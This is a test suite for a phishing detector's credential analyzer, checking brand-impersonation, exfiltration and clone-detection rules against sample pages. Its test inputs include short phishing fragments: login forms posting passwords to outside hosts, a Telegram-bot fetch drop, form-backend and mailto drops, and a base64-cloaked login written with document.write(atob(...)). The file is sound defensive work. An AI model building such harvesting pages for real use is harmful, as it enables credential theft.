/**
 * The credential analyzer (detection.md §2.7): the fixture pages of credential and account
 * phishing, every benign look-alike, and invented pages for the edges of each rule (brand
 * mismatch levels, the owner guard, exfiltration, decoded HTML, seed grids, clone marks).
 */
import { describe, expect, it } from 'vitest';

import { analyzePage, pageView } from '../../src/engine/page/analyze-page.js';
import { analyzeCredentials } from '../../src/engine/page/analyzers/credential.js';
import { createPageContext } from '../../src/engine/page/create-page-context.js';
import type { PageFinding } from '../../src/engine/page/page-finding.js';
import { parsePage } from '../../src/engine/page/parse-page.js';
import { normalizeUrl } from '../../src/engine/url/normalize-url.js';
import {
  BENIGN_FIXTURES,
  fixtureDocument,
  fixtureUrl,
  MALICIOUS_FIXTURES,
  type PageFixture,
  pageFixture,
} from '../helpers/page-fixtures.js';
import { rulesEngine } from '../helpers/rules-engine.js';

/** Findings of the credential analyzer for `html` served at `url`. */
function analyze(html: string, url: string, fresh: boolean | null = null): PageFinding[] {
  const parsed = normalizeUrl(url);
  if (!parsed.ok) throw new Error(url);
  return analyzeCredentials(
    pageView(parsePage(html)),
    createPageContext(rulesEngine(), parsed.url, fresh),
  );
}

function analyzeFixturePage(fixture: PageFixture): PageFinding[] {
  const parsed = normalizeUrl(fixtureUrl(fixture));
  if (!parsed.ok) throw new Error(fixture.id);
  return analyzeCredentials(
    pageView(fixtureDocument(fixture)),
    createPageContext(rulesEngine(), parsed.url, null),
  );
}

const byId = (findings: readonly PageFinding[], id: string): PageFinding | undefined =>
  findings.find((f) => f.id === id);

const LOGIN = '<form method="post"><input name="email"><input type="password" name="pw"></form>';
const CREDENTIAL_SIGNALS = [
  'credential_phishing',
  'account_phishing',
  'domain_mismatch',
  'brand_impersonation',
];

describe('credential fixtures', () => {
  const cases: [string, string][] = [
    ['credential-m365-clone', 'microsoft'],
    ['credential-paypal-fr', 'paypal'],
    ['credential-sparkasse-de', 'sparkasse'],
    ['credential-itau-pt', 'itau'],
    ['credential-outlook-cloaked-atob', 'microsoft'],
    ['account-meta-appeal', 'meta'],
    ['account-netflix-es', 'netflix'],
    ['account-amazon-jp', 'amazon'],
    ['invoice-docusign-login', 'docusign'],
    ['invoice-onedrive-factura-es', 'microsoft'],
  ];
  it.each(cases)('%s: danger brand mismatch naming %s', (id, brand) => {
    const fixture = pageFixture(id);
    const findings = analyzeFixturePage(fixture);
    const mismatch = byId(findings, 'credential_brand_mismatch');
    expect(mismatch?.level).toBe('danger');
    expect(mismatch?.brand?.id).toBe(brand);
    expect(mismatch?.evidence).toMatch(/password/);
    expect(mismatch?.evidence.length).toBeLessThanOrEqual(120);
    const signals = new Set(findings.flatMap((f) => f.signals));
    for (const signal of fixture.expect.signals.filter((s) => CREDENTIAL_SIGNALS.includes(s))) {
      expect(signals, `${id} ${signal}`).toContain(signal);
    }
    const types = new Set<string>(findings.flatMap((f) => f.threatTypes));
    for (const type of fixture.expect.threat_types.filter((t) => CREDENTIAL_SIGNALS.includes(t))) {
      expect(types, `${id} ${type}`).toContain(type);
    }
  });

  it('reads the login form a kit writes with document.write(atob(…))', () => {
    const findings = analyzeFixturePage(pageFixture('credential-outlook-cloaked-atob'));
    expect(byId(findings, 'credential_brand_mismatch')?.evidence).toMatch(
      /decoded script HTML.*Microsoft/,
    );
    expect(byId(findings, 'credential_exfiltration')?.evidence).toMatch(
      /script\.google\.com\/macros/,
    );
  });

  it('names the exfiltration endpoint of each kit', () => {
    const endpoint = (id: string): string =>
      byId(analyzeFixturePage(pageFixture(id)), 'credential_exfiltration')?.evidence ?? '';
    expect(endpoint('credential-sparkasse-de')).toMatch(/formspree\.io\/f\//);
    expect(endpoint('credential-m365-clone')).toMatch(/relay-mx-owa\.sbs/);
    expect(endpoint('account-meta-appeal')).toMatch(/api\.telegram\.org\/bot/);
    expect(endpoint('invoice-docusign-login')).toMatch(/submit-form\.com/);
  });

  it('marks the saved-from clones', () => {
    for (const id of ['credential-m365-clone', 'credential-itau-pt']) {
      expect(byId(analyzeFixturePage(pageFixture(id)), 'clone_artifact')?.evidence).toMatch(
        /^saved from url=/,
      );
    }
  });

  it('leaves seed-phrase grids masked as passwords to the seed analyzer', () => {
    const findings = analyzeFixturePage(pageFixture('seed-phrase-metamask-restore'));
    expect(findings.filter((f) => f.id.includes('brand_mismatch'))).toEqual([]);
  });

  it('every malicious fixture naming a catalog brand over a password gets its brand', () => {
    for (const fixture of MALICIOUS_FIXTURES) {
      const mismatch = analyzeFixturePage(fixture).find((f) => f.id.endsWith('brand_mismatch'));
      if (mismatch !== undefined) expect(fixture.expect.signals).toContain('domain_mismatch');
    }
  });
});

describe('credential analyzer on benign look-alikes', () => {
  it.each(BENIGN_FIXTURES.map((f) => [f.id, f] as const))(
    '%s: no danger or caution',
    (_id, fixture) => {
      const loud = analyzeFixturePage(fixture).filter((f) => f.level !== 'soft');
      expect(loud).toEqual([]);
    },
  );

  it('the official sign-in pages claim no brand at all', () => {
    for (const id of [
      'benign-paypal-signin',
      'benign-microsoft-login',
      'benign-sparkasse-login-de',
      'benign-dhl-tracking-de',
    ]) {
      expect(analyzeFixturePage(pageFixture(id))).toEqual([]);
    }
  });
});

describe('brand mismatch levels', () => {
  const paypalLogin = `<title>PayPal: Log in</title>${LOGIN}`;

  it('caution on an unknown site without corroboration', () => {
    const finding = byId(
      analyze(paypalLogin, 'https://secure-login-center.com/'),
      'credential_brand_mismatch',
    );
    expect(finding?.level).toBe('caution');
    expect(finding?.brand?.id).toBe('paypal');
    expect(finding?.signals).toEqual(
      expect.arrayContaining(['credential_phishing', 'domain_mismatch', 'brand_impersonation']),
    );
    expect(finding?.evidence).toBe('password field as PayPal (title)');
  });

  it('danger on risky infrastructure (abused TLD, fresh domain)', () => {
    expect(
      byId(analyze(paypalLogin, 'https://secure-login-center.top/'), 'credential_brand_mismatch')
        ?.level,
    ).toBe('danger');
    expect(
      byId(
        analyze(paypalLogin, 'https://secure-login-center.com/', true),
        'credential_brand_mismatch',
      )?.level,
    ).toBe('danger');
  });

  it('danger when the form posts to another site', () => {
    const html = `<title>PayPal: Log in</title><form action="https://collect-data.net/p.php"><input type=password></form>`;
    const findings = analyze(html, 'https://secure-login-center.com/');
    expect(byId(findings, 'credential_brand_mismatch')?.level).toBe('danger');
    const exfiltration = byId(findings, 'credential_exfiltration');
    expect(exfiltration?.level).toBe('soft');
    expect(exfiltration?.weight).toBe(2);
    expect(exfiltration?.evidence).toMatch(/collect-data\.net/);
  });

  it('nothing on the brand’s own domain', () => {
    expect(analyze(paypalLogin, 'https://www.paypal.com/signin')).toEqual([]);
  });

  it('nothing when the page names the site’s owner next to another brand', () => {
    const html = `<title>DHL Login</title><p>© Deutsche Post AG</p>${LOGIN}`;
    expect(analyze(html, 'https://www.dhl.de/login')).toEqual([]);
  });

  it('a brand named only in one heading is not an identity', () => {
    expect(analyze(`<h2>Works with PayPal</h2>${LOGIN}`, 'https://shop-login.top/')).toEqual([]);
  });

  it('an official domain written in the title names its brand', () => {
    const finding = byId(
      analyze(`<title>usps.com - sign in</title>${LOGIN}`, 'https://track-parcel.top/'),
      'credential_brand_mismatch',
    );
    expect(finding?.brand?.id).toBe('usps');
    expect(finding?.evidence).toMatch(/domain_name/);
  });

  it('on a popular site only a chat-bot or form-backend drop makes it count', () => {
    const quiet = `<title>PayPal</title>${LOGIN}`;
    expect(analyze(quiet, 'https://www.g2.com/x').filter((f) => f.level !== 'soft')).toEqual([]);
    const kit = `${quiet}<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`;
    expect(byId(analyze(kit, 'https://www.g2.com/x'), 'credential_brand_mismatch')?.level).toBe(
      'danger',
    );
  });
});

describe('credential fields', () => {
  it('a password input built by script counts', () => {
    const html = `<title>Netflix</title><script>var i = document.createElement('input'); i.type = "password";</script>`;
    const finding = byId(analyze(html, 'https://nf-billing.top/'), 'credential_brand_mismatch');
    expect(finding?.evidence).toMatch(/script-built password input/);
  });

  it('card fields without a password: card_brand_mismatch, credential phishing unless a lure', () => {
    const card =
      '<form><input name="cardnumber" autocomplete="cc-number"><input name="cvv"></form>';
    const plain = byId(
      analyze(`<title>Netflix</title>${card}`, 'https://nf-billing.top/'),
      'card_brand_mismatch',
    );
    expect(plain?.threatTypes).toContain('credential_phishing');
    const lure = `<title>Correos</title><p>Su paquete no se pudo entregar. Tasa de aduana: 1,79 €. Pague ahora.</p>${card}`;
    const delivery = byId(analyze(lure, 'https://correos-envio.top/'), 'card_brand_mismatch');
    expect(delivery?.threatTypes).toEqual(['brand_impersonation']);
    expect(delivery?.signals).toEqual(['brand_impersonation', 'domain_mismatch']);
  });

  it('a code next to card fields is a payment step, not a sign-in', () => {
    const html =
      '<title>USPS</title><form><input autocomplete="cc-number" name="cc"><input name="otp"></form>';
    const findings = analyze(html, 'https://usps-help.top/');
    expect(byId(findings, 'card_brand_mismatch')).toBeDefined();
    expect(byId(findings, 'credential_brand_mismatch')).toBeUndefined();
  });

  it('a seed grid of password inputs is not a sign-in', () => {
    const grid = Array.from(
      { length: 12 },
      (_, i) => `<input type="password" name="word${i + 1}">`,
    ).join('');
    // Only the brand the page presents itself as, for naming (the seed analyzer judges grids).
    expect(
      analyze(`<title>MetaMask</title><form>${grid}</form>`, 'https://mm-restore.top/').map(
        (f) => f.id,
      ),
    ).toEqual(['brand_claim']);
  });

  it('no sensitive field, no credential finding: the claimed brand is a weightless soft finding', () => {
    const findings = analyze(
      '<title>PayPal</title><form><input name="q"></form>',
      'https://pp-help.top/',
    );
    expect(findings.map((f) => [f.id, f.level, f.weight, f.brand?.id])).toEqual([
      ['brand_claim', 'soft', 0, 'paypal'],
    ]);
    // Not on the brand's own site, not for a claim as loose as one heading.
    expect(
      analyze('<title>PayPal</title><form><input name="q"></form>', 'https://www.paypal.com/'),
    ).toEqual([]);
    expect(analyze('<h2>PayPal</h2><form><input name="q"></form>', 'https://pp-help.top/')).toEqual(
      [],
    );
  });
});

describe('account phishing', () => {
  it('follows the brand category: a tech brand yes, a bank only with an account lure', () => {
    const microsoft = byId(
      analyze(`<title>Microsoft account</title>${LOGIN}`, 'https://ms-login.top/'),
      'credential_brand_mismatch',
    );
    expect(microsoft?.threatTypes).toContain('account_phishing');
    const bank = byId(
      analyze(`<title>Santander</title>${LOGIN}`, 'https://santander-acceso.top/'),
      'credential_brand_mismatch',
    );
    expect(bank?.threatTypes).not.toContain('account_phishing');
    const locked = byId(
      analyze(
        `<title>Santander</title><p>Su cuenta bloqueada: verifique su cuenta.</p>${LOGIN}`,
        'https://santander-acceso.top/',
      ),
      'credential_brand_mismatch',
    );
    expect(locked?.threatTypes).toContain('account_phishing');
  });
});

describe('exfiltration without a brand', () => {
  it('caution when a password goes to a form backend or a chat bot', () => {
    for (const [action, shown] of [
      ['https://formspree.io/f/abcd', 'form backend formspree.io/f/abcd'],
      ['mailto:drop@example.org', 'mailto:drop@example.org'],
    ] as const) {
      const finding = byId(
        analyze(`<form action="${action}"><input type=password></form>`, 'https://example.org/'),
        'credential_exfiltration',
      );
      expect(finding?.level).toBe('caution');
      expect(finding?.evidence).toBe(`password field → ${shown}`);
    }
  });

  it('posting to a catalog brand’s own domain is single sign-on', () => {
    const html =
      '<form action="https://login.microsoftonline.com/common/login"><input type=password></form>';
    expect(analyze(html, 'https://intranet.example.org/')).toEqual([]);
  });

  it('a drop in code does not count for a form that posts to its own site', () => {
    const code = '<script>fetch("https://formspree.io/f/newsletter", { method: "POST" })</script>';
    const own = `<form action="/login" method="post"><input type=password></form>${code}`;
    expect(analyze(own, 'https://example.org/')).toEqual([]);
    const scripted = `<form><input type=password></form>${code}`;
    expect(byId(analyze(scripted, 'https://example.org/'), 'credential_exfiltration')?.level).toBe(
      'caution',
    );
  });

  it('a form backend for a contact form without sensitive fields is not harvesting', () => {
    const html = '<form action="https://formspree.io/f/abcd"><input name="msg"></form>';
    expect(analyze(html, 'https://example.org/')).toEqual([]);
  });
});

describe('decoded HTML', () => {
  it('parses HTML hidden in a base64 string', () => {
    const inner = Buffer.from(
      '<img src="/l.svg" alt="Microsoft logo"><form action="/x"><input type="password" name="p"></form>',
    ).toString('base64');
    const html = `<title>&#8203;</title><script>document.write(atob("${inner}"));</script>`;
    const finding = byId(
      analyze(html, 'https://mail-verify.web.app/'),
      'credential_brand_mismatch',
    );
    expect(finding?.level).toBe('danger');
    expect(finding?.brand?.id).toBe('microsoft');
  });
});

describe('clone artifacts', () => {
  it('a page saved from another site', () => {
    const finding = byId(
      analyze('<!-- saved from url=(0022)https://www.ing.nl/ --><p>x</p>', 'https://example.org/'),
      'clone_artifact',
    );
    expect(finding).toMatchObject({ level: 'soft', weight: 1.5, group: 'content' });
  });

  it('SingleFile and HTTrack marks', () => {
    for (const comment of [
      'Page saved with SingleFile url: https://x.example',
      'Mirrored from www.bank.example/login by HTTrack Website Copier/3.x',
    ]) {
      expect(
        byId(analyze(`<!-- ${comment} --><p>x</p>`, 'https://example.org/'), 'clone_artifact'),
      ).toBeDefined();
    }
  });

  it('a page saved from its own site is not a clone', () => {
    expect(
      analyze('<!-- saved from url=(0020)https://example.org/ --><p>x</p>', 'https://example.org/'),
    ).toEqual([]);
  });
});

describe('registry', () => {
  it('runs inside analyzePage', () => {
    const parsed = normalizeUrl('https://secure-login-center.top/');
    if (!parsed.ok) throw new Error('url');
    const analysis = analyzePage(
      parsePage(`<title>PayPal</title>${LOGIN}`),
      createPageContext(rulesEngine(), parsed.url, null),
    );
    expect(analysis.findings.map((f) => f.id)).toContain('credential_brand_mismatch');
  });
});
